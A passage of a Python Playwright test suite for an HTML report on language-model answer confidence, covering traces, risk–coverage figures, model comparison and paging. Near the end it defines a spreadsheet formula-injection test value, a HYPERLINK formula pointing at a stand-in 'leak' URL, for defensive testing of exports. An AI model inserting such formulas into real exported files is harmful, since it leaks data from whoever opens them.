    row = page.locator(f"#question-list tbody tr[data-key='{index}:{position}'] td.num").last
    assert float(row.get_attribute("data-value")) == pytest.approx(
        evaluation.scores["mean_logprob"][position], rel=1e-5
    )
    scores = column(page, "#question-list", 7)
    assert scores == sorted(scores, reverse=True)
    page.select_option("#sort-method", "trac")
    assert page.inner_text(header) == "TrAC score" and "score=trac" in page.url and "by=mean_logprob" in page.url
    assert float(row.get_attribute("data-value")) == pytest.approx(evaluation.scores["trac"][position], rel=1e-5)


def primary(runs: Path, model: str, task: str, doc_id: int):
    (path,) = runs.glob(f"{model}/trac_records/{task}.*.jsonl")
    return next(record for record in iter_records(path) if record.doc_id == doc_id and record.repeat == 0)


def open_question(page: Page, model: str, task: str, doc_id: int) -> None:
    page.click("button[data-tab=questions]")
    page.select_option("#filter-model", model)
    page.select_option("#filter-task", task)
    page.locator("#question-list tbody tr").filter(has=page.locator(f"td:text-is('{doc_id}')")).click()
    page.wait_for_selector(loaded("#question-view"), state="attached")


def shown_trace(page: Page, view: str) -> str:
    return page.eval_on_selector(
        f"{view} .trace", "box => [...box.querySelectorAll('span[data-i]')].map(span => span.textContent).join('')"
    )


def test_opening_a_question_shows_its_trace_probe_answer_and_scores(page: Page, written: dict, tiny_tokenizer) -> None:
    record = primary(written["runs"], "model-a", "task-x", 7)
    open_question(page, "model-a", "task-x", 7)
    assert shown_trace(page, "#question-view") == tiny_tokenizer.decode(record.token_ids, skip_special_tokens=False)
    assert page.eval_on_selector("#question-view .trace", "box => box.querySelectorAll('span[data-i]').length") == (
        record.num_tokens
    )
    assert page.eval_on_selector_all("#question-view .trace span[class^=s]", "spans => spans.length") > 0
    marker_ids = tiny_tokenizer.encode(MARKER, add_special_tokens=False)
    starts = [i for i in range(record.num_tokens) if record.token_ids[i : i + len(marker_ids)].tolist() == marker_ids]
    marked = page.eval_on_selector("#question-view .trace .eot", "label => label.nextElementSibling.dataset.i")
    assert int(marked) == starts[-1]
    probe = record.probes["trace"].answer
    assert page.inner_text("#question-view .probe-answer").startswith(probe)
    # the user's message, the chat template's markers behind a toggle
    message = "Question 7 of task-x for model-a: how much are 7 pastries?"
    assert page.text_content("#question-view pre.prompt") == message
    assert page.is_hidden("#question-view pre.raw-prompt")
    page.click("#question-view details.raw-prompt summary")
    assert page.text_content("#question-view pre.raw-prompt") == prompt_of("model-a", "task-x", 7)
    index = next(i for i, pair in enumerate(written["pairs"]) if (pair.model, pair.task) == ("model-a", "task-x"))
    evaluation = written["evaluations"][index]
    position = evaluation.doc_ids.index(7)
    for method in ("trac", "mean_logprob", "sc_modal"):
        shown = page.get_attribute(f"#question-view tr[data-method={method}] td.score", "data-value")
        assert float(shown) == pytest.approx(evaluation.scores[method][position], rel=1e-5)
    # the legend says in nats what the darkest shade means: 3 nats of −log p, the top-k maximum ln k of entropy
    assert page.inner_text("#question-view .legend").replace("\n", "") == "−log p 0≥ 3.00 nats"
    assert page.get_attribute("#question-view .legend span.s9", "title") == "≥ 2.83 nats"
    page.select_option("#question-view .trace-section select", "entropy")
    assert page.get_attribute("#question-view .trace", "data-shading") == "entropy"
    top_k = record.top_k
    assert page.inner_text("#question-view .legend").endswith(f"{math.log(top_k):.2f} nats (ln {top_k}, the maximum)")


def test_the_list_filters_on_a_metadata_field_and_a_probability_threshold_and_keeps_them_in_the_link(
    context: BrowserContext, page: Page, written: dict
) -> None:
    page.click("button[data-tab=questions]")
    page.select_option("#filter-field", "subject")
    page.fill("#filter-field-value", "geometry")  # the whole value, any case
    expected = {
        (m, t, str(d)) for m in MODELS for t in TASKS for d in range(N_QUESTIONS) if SUBJECTS[d % 3] == "Geometry"
    }
    expect(page.locator("#question-count")).to_have_text(f"{len(expected)} question(s)")
    assert {tuple(row) for row in ordered_questions(page)} == expected
    page.select_option("#filter-p-op", "ge")
    page.fill("#filter-p-threshold", "0.6")
    kept = set()
    for pair, evaluation in zip(written["pairs"], written["evaluations"], strict=True):
        for doc, p in zip(evaluation.doc_ids, evaluation.p_correct["trac"], strict=True):
            if (pair.model, pair.task, str(doc)) in expected and p >= 0.6:
                kept.add((pair.model, pair.task, str(doc)))
    assert 0 < len(kept) < len(expected)
    expect(page.locator("#question-count")).to_have_text(f"{len(kept)} question(s)")
    assert {tuple(row) for row in ordered_questions(page)} == kept
    link = page.url
    assert all(part in link for part in ("mf=subject", "mv=geometry", "pop=ge", "pt=0.6"))
    with opened(context, link, written["html"]) as again:
        expect(again.locator("#question-count")).to_have_text(f"{len(kept)} question(s)")
        assert again.input_value("#filter-field") == "subject" and again.input_value("#filter-p-threshold") == "0.6"


def test_a_trace_is_read_token_by_token_from_the_keyboard_its_strip_and_its_uncertain_tokens(
    page: Page, written: dict
) -> None:
    record = primary(written["runs"], "model-a", "task-x", 7)
    surprisal = -np.asarray(record.token_logprobs, dtype=float)
    shade = np.minimum(9, np.rint(np.rint(surprisal * 32) / 32 / 3 * 9))  # the page's shades of the stored bytes
    open_question(page, "model-a", "task-x", 7)
    trace = page.locator("#question-view .trace")
    status = page.locator("#question-view .hover-info")
    trace.focus()  # token values on focus, then step with the arrows
    page.keyboard.press("ArrowRight")
    page.keyboard.press("ArrowRight")
    assert trace.get_attribute("data-active") == "2"
    said = re.search(r"token 2 of (\d+): .*−log p = ([\d.]+)", status.text_content())
    assert int(said.group(1)) == record.num_tokens and float(said.group(2)) == pytest.approx(surprisal[2], abs=1 / 64)
    page.keyboard.press("n")  # the next uncertain token: shade 6 of 9 or darker, none skipped
    expected = next(i for i in range(3, record.num_tokens) if shade[i] >= 6)
    assert trace.get_attribute("data-active") == str(expected)
    page.click("#question-view button.previous-uncertain")
    before = [i for i in range(expected) if shade[i] >= 6]
    assert trace.get_attribute("data-active") == (str(before[-1]) if before else str(expected))
    # TUP's tail underlined: the last W tokens
    tail = page.eval_on_selector_all("#question-view .trace span.tail", "spans => spans.map(span => +span.dataset.i)")
    assert tail == list(range(max(0, record.num_tokens - TAIL_WINDOW), record.num_tokens))
    # the strip: a click near its end jumps to the darkest token of that stretch, inside the last 1/200 of the trace
    strip = page.locator("#question-view canvas.strip")
    assert f"{record.num_tokens} tokens" in strip.get_attribute("aria-label")
    box = strip.bounding_box()
    strip.click(position={"x": box["width"] - 3, "y": box["height"] / 2})
    jumped = int(trace.get_attribute("data-active"))
    assert jumped >= record.num_tokens - max(1, math.ceil(record.num_tokens / 200)) - 1


def test_side_by_side_shows_both_models_answers_for_the_same_document(page: Page, written: dict) -> None:
    page.click("button[data-tab=compare]")
    page.select_option("#compare-task", "task-y")
    page.select_option("#compare-doc", "12")
    for side in ("left", "right"):
        page.wait_for_selector(loaded(f"#compare-{side}-view"), state="attached")
    for side, model in (("left", "model-a"), ("right", "model-b")):
        record = primary(written["runs"], model, "task-y", 12)
        view = f"#compare-{side}-view"
        assert page.inner_text(f"{view} h3") == f"{model} · task-y · document 12"
        assert page.inner_text(f"{view} .primary-answer").startswith(record.answer)
        spans = page.eval_on_selector(f"{view} .trace", "box => box.querySelectorAll('span[data-i]').length")
        assert spans == record.num_tokens


def test_side_by_side_steps_through_the_documents_where_the_two_models_disagree(page: Page, written: dict) -> None:
    page.click("button[data-tab=compare]")
    page.select_option("#compare-task", "task-x")
    labels = {}
    for pair, evaluation in zip(written["pairs"], written["evaluations"], strict=True):
        if pair.task == "task-x":
            labels[pair.model] = dict(zip(map(str, evaluation.doc_ids), evaluation.labels, strict=True))
    differ = [doc for doc in labels["model-a"] if labels["model-a"][doc] != labels["model-b"][doc]]
    assert 0 < len(differ) < N_QUESTIONS
    page.check("#compare-disagree")
    expect(page.locator("#compare-count")).to_have_text(f"{len(differ)} of {N_QUESTIONS} documents disagree")
    options = page.eval_on_selector_all("#compare-doc option", "options => options.map(option => option.value)")
    assert sorted(options, key=int) == sorted(differ, key=int)
    page.select_option("#compare-doc", differ[-1])
    for side in ("left", "right"):
        page.wait_for_selector(loaded(f"#compare-{side}-view"), state="attached")
    verdicts = [
        page.inner_text(f"#compare-{side}-view .badge.ok, #compare-{side}-view .badge.no") for side in ("left", "right")
    ]
    assert sorted(verdict.split("\n")[0] for verdict in verdicts) == ["correct", "wrong"]


def chart_points(page: Page, chart: str) -> list[int]:
    return page.evaluate(f"window.tracReport.charts.{chart}.data.map(series => series.length)")


@pytest.mark.parametrize(("pair", "method"), [(0, "trac"), (3, "mean_logprob"), (1, "sc_modal")])
def test_the_figures_have_as_many_points_as_the_data(page: Page, written: dict, pair: int, method: str) -> None:
    page.click("button[data-tab=figures]")
    page.select_option("#figure-pair", str(pair))
    page.select_option("#figure-method", method)
    evaluation = written["evaluations"][pair]
    curves = page.evaluate("window.tracReport.charts.risk.curves")
    assert curves[0] == method and curves[-2:] == ["oracle", "random"]
    assert chart_points(page, "risk") == [N_QUESTIONS] * (1 + len(curves))
    bins = reliability_bins(evaluation.p_correct[method], evaluation.labels)
    assert chart_points(page, "reliability") == [len(bins["count"])] * 3
    assert page.evaluate("window.tracReport.charts.reliability.data[2]") == bins["count"].tolist()
    assert page.get_attribute("#risk-chart", "data-points") == str(N_QUESTIONS)
    # text alternatives: what the charts show, in words
    name = written["pairs"][pair].name
    risk = page.get_attribute("#risk-chart[role=figure]", "aria-label")
    assert (
        risk.startswith("Risk–coverage curve of ")
        and f" on {name}: AURC {evaluation.metrics[f'{method}_aurc']:.3f};" in risk
    )
    reliability = page.get_attribute("#reliability-chart[role=figure]", "aria-label")
    assert f"ECE {evaluation.metrics[f'{method}_ece']:.3f};" in reliability
    assert reliability.split("(questions): ")[1].count("→") == len(bins["count"])


def test_the_risk_coverage_figure_overlays_methods_with_the_oracle_and_random_references(
    page: Page, written: dict
) -> None:
    page.click("button[data-tab=figures]")
    page.select_option("#figure-pair", "2")
    page.select_option("#figure-method", "trac")
    page.select_option("#figure-overlay", ["mean_logprob", "sc_modal"])
    evaluation = written["evaluations"][2]
    labels = np.asarray(evaluation.labels, dtype=bool)
    curves = page.evaluate("window.tracReport.charts.risk.curves")
    assert curves[0] == "trac" and set(curves[1:3]) == {"sc_modal", "mean_logprob"}
    assert curves[3:] == ["oracle", "random"]
    data = page.evaluate("window.tracReport.charts.risk.data")
    for name, values in zip(curves[:3], data[1:4], strict=True):
        np.testing.assert_allclose(values, risk_coverage_curve(evaluation.scores[name], labels)[1], atol=1e-4)
    correct = labels.sum()
    oracle = [max(0, k - correct) / k for k in range(1, labels.size + 1)]  # every correct answer first
    np.testing.assert_allclose(data[4], oracle, atol=1e-4)
    np.testing.assert_allclose(data[5], np.full(labels.size, 1 - labels.mean()), atol=1e-5)
    assert 0 < correct < labels.size and data[4][0] == 0 and data[4][-1] == pytest.approx(1 - labels.mean(), abs=1e-4)
    legend = page.eval_on_selector_all("#risk-chart .u-legend th", "cells => cells.map(cell => cell.textContent)")
    labels_of = [page.inner_text(f"#figure-method option[value={name}]") for name in curves[:3]]
    assert [label for label in legend if label] == ["coverage", *labels_of, "oracle", "random"]
    described = page.get_attribute("#risk-chart[role=figure]", "aria-label")
    for name in curves[:3]:
        assert f"AURC {evaluation.metrics[f'{name}_aurc']:.3f}" in described
    assert f"oracle (AURC {np.mean(oracle):.3f}), random (risk {1 - labels.mean():.3f} at every coverage)" in described


def test_the_histogram_splits_the_probability_of_correctness_by_correct_and_wrong(page: Page, written: dict) -> None:
    page.click("button[data-tab=figures]")
    page.select_option("#figure-pair", "1")
    page.select_option("#figure-method", "mean_logprob")
    evaluation = written["evaluations"][1]
    labels = np.asarray(evaluation.labels, dtype=bool)
    probabilities = evaluation.p_correct["mean_logprob"]
    edges = np.linspace(0, 1, 21)
    data = page.evaluate("window.tracReport.charts.histogram.data")
    assert data[1] == np.histogram(probabilities[labels], bins=edges)[0].tolist()
    assert data[2] == np.histogram(probabilities[~labels], bins=edges)[0].tolist()
    assert sum(data[1]) == labels.sum() and sum(data[2]) == (~labels).sum()
    described = page.get_attribute("#histogram-chart[role=figure]", "aria-label")
    assert described.startswith("Histogram of the probability of correctness of Mean log-probability on ")
    assert described.split("per bin: ")[1].count(" / ") == 20


def test_the_macro_risk_coverage_averages_every_pairs_curve_and_cost_quality_places_each_method(
    page: Page, written: dict
) -> None:
    """Issue 47: over all pairs, each pair's risk–coverage curve interpolated on the grid 0.01..1 and averaged
    (risk_coverage.png's points; docs/method.md#figures), with the macro oracle and random; the cost–quality figure
    puts each method at trac report's relative latency and macro AUROC, cheapest first in its table, and a click on a
    point makes it the figures' method; the chosen quality metric stays in the link."""
    page.click("button[data-tab=figures]")
    page.select_option("#figure-method", "trac")
    page.select_option("#figure-overlay", ["mean_logprob", "sc_modal"])
    grid = np.linspace(0.01, 1.0, 100)
    evaluations = written["evaluations"]

    def macro(curve_of) -> np.ndarray:
        curves = []
        for evaluation in evaluations:
            n = evaluation.labels.size
            curves.append(np.interp(grid, np.arange(1, n + 1) / n, curve_of(evaluation)))
        return np.mean(curves, axis=0)

    def risk_of(name: str):
        return lambda evaluation: risk_coverage_curve(evaluation.scores[name], evaluation.labels)[1]

    def oracle_of(evaluation) -> list[float]:
        correct = evaluation.labels.sum()
        return [max(0, k - correct) / k for k in range(1, evaluation.labels.size + 1)]  # every correct answer first

    assert page.get_attribute("#pooled-risk-chart", "data-curves") == "trac,mean_logprob,sc_modal"
    data = page.evaluate("window.tracReport.charts.pooledRisk.data")
    np.testing.assert_allclose(data[0], grid, atol=1e-9)
    for name, values in zip(["trac", "mean_logprob", "sc_modal"], data[1:4], strict=True):
        np.testing.assert_allclose(values, macro(risk_of(name)), atol=1e-4)
    np.testing.assert_allclose(data[4], macro(oracle_of), atol=1e-4)
    error = np.mean([1 - evaluation.labels.mean() for evaluation in evaluations])
    np.testing.assert_allclose(data[5], np.full(grid.size, error), atol=1e-5)
    assert data[1][-1] == pytest.approx(error, abs=1e-4)  # every answer kept: the pairs' mean error rate
    described = page.get_attribute("#pooled-risk-chart", "aria-label")
    assert described.startswith(f"Macro risk–coverage over {len(evaluations)} pair(s): TrAC, macro AURC ")
    # cost against quality: trac report's latency and macro AUROC, point by point
    board = pd.read_csv(written["tables"] / "leaderboard.csv").set_index("method")
    points = page.eval_on_selector_all(
        "#cost-quality-chart .cost-point",
        """points => points.map(point => [point.dataset.method, point.getAttribute('aria-label'),
            Number(point.querySelector('circle').getAttribute('cx')),
            Number(point.querySelector('circle').getAttribute('cy'))])""",
    )
    label = {name: page.inner_text(f"#figure-method option[value={name}]") for name, *_ in points}
    assert len(points) == len(board) > 5
    for name, described, *_ in points:
        row = board.loc[label[name]]
        latency, auroc = row["latency ×"], row["macro AUROC"]
        assert described.startswith(f"{label[name]}: {latency:.3f}× a generation, macro AUROC {auroc:.3f} [")
    costs = [board.loc[label[name], "latency ×"] for name, *_ in sorted(points, key=lambda point: point[2])]
    assert costs == sorted(costs) and costs[0] < costs[-1]
    listed = page.eval_on_selector_all(
        "#cost-quality-table tbody td:nth-child(2)", "cells => cells.map(cell => Number(cell.dataset.value))"
    )
    assert listed == sorted(listed) and len(listed) == len(points)
    best = min(points, key=lambda point: point[3])[0]  # the highest point: the best macro AUROC
    assert board.loc[label[best], "macro AUROC"] == board["macro AUROC"].max()
    page.dispatch_event(f"#cost-quality-chart .cost-point[data-method={best}] circle", "click")
    assert page.input_value("#figure-method") == best
    assert page.get_attribute("#pooled-risk-chart", "data-curves").split(",")[0] == best
    page.click("#cost-quality-table tbody tr[data-method=trac]")  # points of one cost overlap: the row chooses too
    assert page.input_value("#figure-method") == "trac"
    drawn = "[...document.querySelectorAll('#pooled-risk-chart > *, #cost-quality > *')]"
    page.evaluate(f"window.pooledDrawn = {drawn}")
    page.select_option("#figure-pair", "1")  # the figures over all pairs stay as drawn: they do not depend on the pair
    assert page.evaluate("window.pooledDrawn.length > 1 && window.pooledDrawn.every(node => node.isConnected)")
    page.select_option("#figure-method", "sc_modal")
    assert not page.evaluate("window.pooledDrawn.some(node => node.isConnected)")
    assert page.get_attribute("#pooled-risk-chart", "data-curves").split(",")[0] == "sc_modal"
    page.select_option("#figure-method", "trac")
    page.select_option("#cost-metric", "aurc")
    assert "fcost=aurc" in page.url
    with opened(page.context, page.url, written["html"]) as again:
        again.wait_for_selector("#cost-quality-chart", state="attached")
        assert again.input_value("#cost-metric") == "aurc"
        assert "macro AURC" in again.get_attribute("#cost-quality-chart .cost-point", "aria-label")


LARGE_QUESTIONS = 550
"""Questions per model of the large page (two models, one task: 1,100 questions, eleven pages of the list)."""


@pytest.fixture(scope="module")
def large(tmp_path_factory: pytest.TempPathFactory, tiny_tokenizer, tiny_model: Path) -> Path:
    """The page ``trac report --html`` writes for 2 models × 1 task × 550 questions."""
    root = tmp_path_factory.mktemp("large_report")
    runs = root / "runs"
    write_tokenized_runs(runs, tiny_tokenizer, MODELS, TASKS[:1], LARGE_QUESTIONS, k=2)
    html = root / "report.html"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", TracWarning)
        main(["report", str(runs), "--html", str(html), "--tokenizer", str(tiny_model), "--resamples", "20"])
    return html


def shown_rows(page: Page) -> list[str]:
    return page.eval_on_selector_all("#question-list tbody tr", "rows => rows.map(row => row.dataset.key)")


def test_a_thousand_questions_are_listed_a_page_at_a_time_keeping_the_open_one(context: BrowserContext, large):
    total = len(MODELS) * LARGE_QUESTIONS
    pager = "#panel-questions .page-rows"
    with opened(context, large.as_uri(), large) as page:
        page.click("button[data-tab=questions]")
        expect(page.locator("#question-count")).to_have_text(f"{total} question(s)")
        assert len(shown_rows(page)) == PAGE_SIZE and page.inner_text(pager) == f"rows 1–100 of {total:,}"
        page.click("#question-list thead th[data-key=doc] button")  # doc ascending after descending: a re-sort
        page.click("#question-list thead th[data-key=doc] button")
        first_page = shown_rows(page)
        assert len(first_page) == PAGE_SIZE
        # the keyboard steps past the page's end onto the next page, and back
        page.locator("#question-list tbody tr").last.click()
        assert opened_title(page)
        page.keyboard.press("j")
        expect(page.locator(pager)).to_have_text(f"rows 101–200 of {total:,}")
        second_page = shown_rows(page)
        assert len(second_page) == PAGE_SIZE and not set(second_page) & set(first_page)
        expect(page.locator("#question-list tbody tr.open")).to_have_attribute("data-key", second_page[0])
        assert page.evaluate("document.activeElement.dataset.key") == second_page[0]
        page.wait_for_selector(f"#question-view[data-loaded='{second_page[0]}']", state="attached")
        page.keyboard.press("k")
        expect(page.locator(pager)).to_have_text(f"rows 1–100 of {total:,}")
        expect(page.locator("#question-list tbody tr.open")).to_have_attribute("data-key", first_page[-1])
        page.keyboard.press("j")
        expect(page.locator("#question-list tbody tr.open")).to_have_attribute("data-key", second_page[0])
        title = opened_title(page)
        # a re-sort keeps the open question open and shows the page it is on
        page.click("#question-list thead th[data-key=score] button")
        expect(page.locator("#question-list tbody tr.open")).to_have_attribute("data-key", second_page[0])
        assert len(shown_rows(page)) == PAGE_SIZE and page.inner_text("#question-view h3") == title
        assert page.get_attribute("#question-list thead th[data-key=score]", "aria-sort") == "descending"
        # a filter that keeps it too; the buttons turn the pages
        model = page.inner_text("#question-list tbody tr.open td:first-child")
        page.select_option("#filter-model", model)
        expect(page.locator("#question-count")).to_have_text(f"{LARGE_QUESTIONS} question(s)")
        expect(page.locator("#question-list tbody tr.open")).to_have_attribute("data-key", second_page[0])
        at = page.inner_text(pager)
        away, back = ["next", "previous"] if page.is_enabled("#panel-questions .page-next") else ["previous", "next"]
        page.click(f"#panel-questions .page-{away}")
        assert page.inner_text(pager) != at and page.locator("#question-list tbody tr.open").count() == 0
        assert page.inner_text("#question-view h3") == title and len(shown_rows(page)) <= PAGE_SIZE
        page.click(f"#panel-questions .page-{back}")
        assert page.inner_text(pager) == at
        expect(page.locator("#question-list tbody tr.open")).to_have_attribute("data-key", second_page[0])
        # the downloaded list is every listed question, not the page
        listed = pd.read_csv(downloaded(page, ".downloads[data-stem=questions] .download-csv"), dtype={"doc": str})
        assert len(listed) == LARGE_QUESTIONS and set(listed["model"]) == {model}


SEARCHED = """async () => {
    const count = document.getElementById('question-count');
    const started = performance.now();
    document.getElementById('search-traces').click();
    await new Promise(done => {
        const check = () => !count.textContent.includes('searching') && (observer.disconnect(), done());
        const observer = new MutationObserver(check);
        observer.observe(count, {childList: true, characterData: true, subtree: true});
        check();
    });
    return [performance.now() - started, count.textContent];
}"""
"""Tick "in traces too" and time, on the page's own clock, until the list says it has searched every trace."""


def test_the_first_search_in_traces_unpacks_every_trace_quickly(context: BrowserContext, large: Path) -> None:
    """Issue 47: the first search inside 1,100 short traces took some 1.8 s (one DecompressionStream per trace, about
    1.7 ms each); each trace is now unpacked once by the page's own inflater, well under a second, and a second
    search reads the unpacked texts."""
    with opened(context, f"{large.as_uri()}#tab=questions", large) as page:
        page.fill("#question-search", "café sells 23 pastries")  # a phrase of the traces alone
        expect(page.locator("#question-count")).to_have_text("0 question(s)")
        seconds, count = page.evaluate(SEARCHED)
        assert count == "2 question(s)" and seconds < 1000, seconds  # doc 23 of each model
        assert listed_questions(page) == {(model, TASKS[0], "23") for model in MODELS}
        page.fill("#question-search", "CAFÉ SELLS 42 PASTRIES")
        expect(page.locator("#question-count")).to_have_text("2 question(s)")


def test_figures_and_side_by_side_keep_their_state_in_the_link(page: Page, written: dict) -> None:
    """Issue 47: a copied link reopens the figures' pair, method and overlaid methods, and side by side's task, runs,
    "disagree" filter and document."""
    page.click("button[data-tab=figures]")
    page.select_option("#figure-pair", "2")
    page.select_option("#figure-method", "mean_logprob")
    page.select_option("#figure-overlay", ["trac", "sc_modal"])

    def figures(shown: Page) -> list:
        """What the figures tab shows: its pair, its method and the risk-coverage figure's curves."""
        return shown.evaluate(
            "() => [document.getElementById('figure-pair').value, document.getElementById('figure-method').value,"
            " window.tracReport.charts.risk.curves]"
        )

    chosen = figures(page)
    assert chosen == ["2", "mean_logprob", ["mean_logprob", "trac", "sc_modal", "oracle", "random"]]
    with opened(page.context, page.url, written["html"]) as again:
        again.wait_for_selector("#risk-chart canvas", state="attached")
        assert figures(again) == chosen
    page.click("button[data-tab=compare]")
    page.wait_for_selector(loaded("#compare-right-view"), state="attached")
    task = page.eval_on_selector_all("#compare-task option", "options => options.map(option => option.value)")[-1]
    page.select_option("#compare-task", task)
    page.check("#compare-disagree")
    documents = page.eval_on_selector_all("#compare-doc option", "options => options.map(option => option.value)")
    assert len(documents) > 1
    page.select_option("#compare-doc", documents[-1])

    def compared(shown: Page) -> list:
        """What side by side shows: its controls' values, the filter and the left question's title."""
        controls = ("#compare-task", "#compare-left", "#compare-right", "#compare-doc")
        return [shown.input_value(control) for control in controls] + [
            shown.is_checked("#compare-disagree"),
            shown.inner_text("#compare-left-view h3"),
        ]

    page.wait_for_selector(loaded("#compare-left-view"), state="attached")
    chosen = compared(page)
    assert chosen[0] == task and chosen[3] == documents[-1] and chosen[1] != chosen[2]
    with opened(page.context, page.url, written["html"]) as again:
        again.wait_for_selector(loaded("#compare-left-view"), state="attached")
        assert compared(again) == chosen


@pytest.mark.parametrize("width", [1440, 390])
def test_no_pair_table_column_is_left_half_under_its_label_column(browser: Browser, written: dict, width: int) -> None:
    """Issue 47: wherever the pair table is scrolled, it comes to rest with each column wholly beside the label
    column or wholly under it (never "0.506" read as "506")."""
    context = browser.new_context(offline=True, viewport={"width": width, "height": 900})
    with opened(context, written["html"].as_uri(), written["html"]) as page:
        rests = []
        for offset in (37, 101, 333, 517):
            cut = page.eval_on_selector(
                "#pair-table-wrap",
                """async (wrap, offset) => {
                    wrap.scrollLeft = offset;
                    await new Promise(done => setTimeout(done, 300));
                    const label = wrap.querySelector('tbody th.sticky').getBoundingClientRect().right;
                    return [wrap.scrollLeft, [...wrap.querySelectorAll('tbody tr:first-child td')]
                        .map(cell => cell.getBoundingClientRect())
                        .filter(box => box.left < label - 0.5 && box.right > label + 0.5).length];
                }""",
                offset,
            )
            assert cut[1] == 0, (offset, cut)
            rests.append(cut[0])
        assert max(rests) > 0  # it did scroll
    context.close()


def percentile_ranks(scores: list[float | None]) -> pd.Series:
    """Each score's rank among the defined ones, 0 (least confident) to 1 (most), ties at their mean rank."""
    series = pd.Series(scores, dtype=float)
    return (series.rank(method="average") - 1) / max(1, series.notna().sum() - 1)


def test_two_methods_one_question_scatter_and_where_they_disagree(page: Page, written: dict) -> None:
    """Issue 47: each question of the pair a point at its rank under both methods, coloured by its label; the list
    holds the questions the two rank furthest apart, largest first; a click on either opens the question."""
    page.click("button[data-tab=figures]")
    page.select_option("#figure-pair", "1")
    page.select_option("#figure-method", "trac")
    page.select_option("#scatter-method", "mean_logprob")
    data = page.evaluate("JSON.parse(document.getElementById('trac-questions').textContent)")[1]
    mine, theirs = percentile_ranks(data["scores"]["trac"]), percentile_ranks(data["scores"]["mean_logprob"])
    shown = [question for question in range(len(data["doc"])) if mine.notna()[question] and theirs.notna()[question]]
    points = page.eval_on_selector_all(
        "#disagreement-scatter circle",
        "points => points.map(point => [Number(point.dataset.question), point.classList.contains('ok')])",
    )
    assert sorted(points) == sorted([question, data["correct"][question] == 1] for question in shown)
    difference = {question: mine[question] - theirs[question] for question in shown}
    expected = sorted(shown, key=lambda question: (-abs(difference[question]), question))[:10]
    rows = page.eval_on_selector_all("#disagree-list tbody tr", "rows => rows.map(row => Number(row.dataset.question))")
    assert rows == expected
    shown_differences = floats(
        page.eval_on_selector_all("#disagree-list td.difference", "cells => cells.map(c => c.dataset.value)")
    )
    assert shown_differences == pytest.approx([difference[question] for question in expected])
    page.click("#disagree-list tbody tr:first-child")
    page.wait_for_selector(loaded("#question-view"), state="attached")
    pair = written["pairs"][1]
    assert opened_title(page) == f"{pair.model} · {pair.task} · document {data['doc'][expected[0]]}"
    page.go_back()
    assert page.is_visible("#disagreement-scatter")
    page.click(f"#disagreement-scatter circle[data-question='{shown[-1]}']")
    page.wait_for_selector(f"#question-view[data-loaded='1:{shown[-1]}']", state="attached")


def test_side_by_side_says_which_run_is_more_accurate_with_intervals_and_a_paired_test(
    page: Page, written: dict
) -> None:
    """Issue 47: the two runs' accuracy on the documents both answered with bootstrap intervals, the exact McNemar p
    and the disagreements by direction, as trac_metrics/reporting/model/model_comparison.py computes them from the
    records' labels; swapping the sides swaps them."""
    settings = page.evaluate("JSON.parse(document.getElementById('trac-data').textContent).settings")
    page.click("button[data-tab=compare]")
    page.wait_for_selector(loaded("#compare-right-view"), state="attached")

    def shown() -> dict[str, float]:
        return dict(
            page.eval_on_selector_all(
                "#compare-accuracy td", "cells => cells.map(cell => [cell.classList[1], Number(cell.dataset.value)])"
            )
        )

    for _ in range(2):
        left, right = (int(page.input_value(side)) for side in ("#compare-left", "#compare-right"))
        a, b = written["evaluations"][left], written["evaluations"][right]
        found = compare_accuracy(
            [str(doc) for doc in a.doc_ids],
            [int(label) for label in a.labels],
            [str(doc) for doc in b.doc_ids],
            [int(label) for label in b.labels],
            settings["resamples"],
            settings["seed"],
            settings["level"],
        )
        values = shown()
        assert values["accuracy-left"] == pytest.approx(found.accuracy_a)
        assert values["accuracy-right"] == pytest.approx(found.accuracy_b)
        assert values["difference"] == pytest.approx(found.difference)
        assert (values["only-left"], values["only-right"]) == (found.only_a, found.only_b)
        assert values["p"] == pytest.approx(found.p)
        lo, hi = found.interval_difference
        assert f"[{lo:.3f}, {hi:.3f}]" in page.inner_text("#compare-accuracy td.difference")
        page.select_option("#compare-left", str(right))  # the other way round
        expect(page.locator("#compare-right")).to_have_value(str(left))


def test_a_screenshot_of_an_opened_question(page: Page, tmp_path: Path) -> None:
    page.click("button[data-tab=questions]")
    page.check("#filter-confidently-wrong")
    page.locator("#question-list tbody tr").filter(has_text="model-a").first.click()  # model-a's prompts are stored
    page.wait_for_selector(loaded("#question-view"), state="attached")
    assert page.locator("#question-view pre.prompt").count() == 1
    shot = tmp_path / "html_report.png"
    page.screenshot(path=str(shot))
    assert shot.read_bytes().startswith(b"\x89PNG") and shot.stat().st_size > 20_000
    if os.environ.get("TRAC_UPDATE_SCREENSHOTS") == "1":
        SCREENSHOT.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(shot, SCREENSHOT)


def test_the_tiny_reasoners_traces_are_shaded_by_its_own_tokenizer(browser: Browser, tmp_path: Path) -> None:
    """Issue 47: as ``scripts/demo.sh`` writes the demo's page (``--tokenizer`` the tiny reasoner's folder, the model
    named by that path as lm-eval's ``pretrained=`` names it), traces whose stored text keeps the model's special
    ``<think>`` / ``</think>`` tokens are shaded token by token, and no tab overflows a 390 px screen."""
    from transformers import AutoTokenizer

    reasoner = REPO / "trac_tasks" / "data" / "tiny-reasoner"
    tokenizer = AutoTokenizer.from_pretrained(reasoner)
    assert tokenizer.convert_tokens_to_ids(MARKER) in tokenizer.all_special_ids
    runs, html = tmp_path / "runs", tmp_path / "demo.html"
    write_tokenized_runs(runs, tokenizer, ["tiny-reasoner"], ["trac_demo"], 24, k=4)
    rewrite_records(runs, "tiny-reasoner", lambda record: {"model": str(reasoner)})
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", TracWarning)
        main(["report", str(runs), "--html", str(html), "--tokenizer", str(reasoner), "--resamples", "20"])
    context = browser.new_context(offline=True, viewport={"width": 1440, "height": 960})
    with opened(context, f"{html.as_uri()}#tab=questions&open=0:3", html) as page:
        page.wait_for_selector(loaded("#question-view"), state="attached")
        record = primary(runs, "tiny-reasoner", "trac_demo", 3)
        assert shown_trace(page, "#question-view") == tokenizer.decode(record.token_ids, skip_special_tokens=False)
        assert page.eval_on_selector_all("#question-view .trace span[class^=s]", "spans => spans.length") > 0
        assert page.locator("#question-view .trace .eot").count() == 1
    context.close()
    check_fits_a_phone(browser, html)


FORMULA = '=HYPERLINK("http://example.invalid/?leak")'
"""A model answer a spreadsheet program would run as a formula."""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, tiny_tokenizer) -> Path:
